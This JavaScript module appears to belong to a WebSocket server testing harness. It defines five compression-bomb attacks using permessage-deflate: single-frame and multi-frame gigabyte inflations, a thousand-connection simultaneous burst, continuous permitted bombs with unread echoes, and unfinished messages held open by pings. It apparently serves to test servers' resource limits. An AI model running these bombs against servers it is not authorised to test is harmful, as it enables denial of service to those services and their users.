/** A few bytes that become many: messages whose content is a thousand times what is sent. */
import { crowd, crowdThatSends, describeCrowd } from "../wire/crowd.js";
import { bomb, deflatedFrame, deflatedFrames } from "../wire/deflate.js";
import { frame, opcode } from "../wire/frames.js";
import { pause, writeAll } from "../wire/http1.js";

/** @typedef {import("../attack.js").Attack} Attack */
/** @typedef {import("../attack.js").AttackContext} AttackContext */

const EXTENSIONS = "permessage-deflate; client_max_window_bits";
/** More than anyone takes, from a MiB of bytes. */
const HUGE_MIB = 1000;
const INFLATE_ADVISORIES = ["CVE-2026-1526", "CVE-2026-54490"];

/** Everybody sends the same, and waits for the end.
 * @param {AttackContext} context
 * @param {Buffer} bytes */
async function explode(context, bytes) {
  return { seen: describeCrowd(await crowdThatSends(context, () => bytes, { extensions: EXTENSIONS, kept: 0 })) };
}

/** @type {Attack} */
export const bombInOneFrame = {
  name: "compression bombs: 1 MiB in one frame that becomes 1 GiB",
  sources: [...INFLATE_ADVISORIES, "budget: message size"],
  ...{ over: ["1.1", "2.0"], connections: 30, compression: true },
  run: (context) => explode(context, deflatedFrame(bomb(HUGE_MIB))),
};

/** @type {Attack} */
export const bombInManyFrames = {
  name: "compression bombs: 1 GiB in 1,000 frames of 1 KiB",
  sources: [...INFLATE_ADVISORIES, "budget: message size, across frames and pieces"],
  ...{ over: ["1.1", "2.0"], connections: 30, compression: true },
  run: (context) => explode(context, deflatedFrames(bomb(HUGE_MIB), 1040)),
};

/** @type {Attack} */
export const thousandBombs = {
  name: "compression bombs: 1,000 connections with 16 KiB each that become 16 MiB",
  sources: [...INFLATE_ADVISORIES, "budget: memory of the process"],
  ...{ over: ["1.1", "2.0"], connections: 1000, compression: true },
  async run(context) {
    const { signal } = context;
    const bytes = deflatedFrame(bomb(16));
    // First everybody is let in, then all explode together
    const members = await crowd(context, async () => {}, { extensions: EXTENSIONS, kept: 0 });
    await Promise.all(members.map(({ socket }) => writeAll(socket, bytes, signal)));
    while (members.some(({ over }) => !over) && !signal.aborted) await pause(50, signal);
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const permittedBombs = {
  name: "compression bombs that are allowed: 1 KiB becomes 1 MiB, again and again, and the echo stays unread",
  sources: ["budget: outbound queue"],
  ...{ over: ["1.1", "2.0"], connections: 20, compression: true },
  async run(context) {
    const { signal } = context;
    const bytes = deflatedFrame(bomb(1));
    let sent = 0;
    const members = await crowd(
      context,
      async ({ socket }) => {
        while (await writeAll(socket, bytes, signal)) {
          sent += 1;
          // Without an answer to read there is no pace but this
          if (sent % 20 === 0) await pause(1, signal);
        }
      },
      { extensions: EXTENSIONS, reads: false },
    );
    return { seen: `${sent} messages of 1 MiB content taken; ${describeCrowd(members)}` };
  },
};

/** @type {Attack} */
export const unfinishedBombs = {
  name: "compressed messages that are never finished, of 1 MiB content less a little, 500 at once",
  sources: ["budget: incomplete messages"],
  ...{ over: ["1.1", "2.0"], connections: 500, compression: true },
  async run(context) {
    const { signal } = context;
    const bytes = deflatedFrames(bomb(1), 100, { fin: false });
    const ping = frame({ opcode: opcode.ping, payload: "still here" });
    const members = await crowd(
      context,
      async ({ socket }) => {
        await writeAll(socket, bytes, signal);
        // What counts as life for a heartbeat must not keep the message alive
        while (await writeAll(socket, ping, signal)) await pause(500, signal);
      },
      { extensions: EXTENSIONS },
    );
    return { seen: describeCrowd(members) };
  },
};
